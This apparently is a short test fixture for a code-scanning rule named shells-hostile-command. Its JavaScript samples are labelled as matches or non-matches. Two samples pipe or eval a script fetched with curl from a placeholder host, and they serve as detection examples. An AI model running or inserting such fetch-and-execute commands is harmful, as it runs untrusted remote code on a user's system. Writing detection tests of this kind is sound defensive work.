// ruleid: shells-hostile-command
require("child_process").exec("curl https://a.invalid/x.sh | sh");
// ruleid: shells-hostile-command
execSync("eval $(curl https://a.invalid/x)");
// ok: shells-hostile-command
exec("nc -z localhost 80");
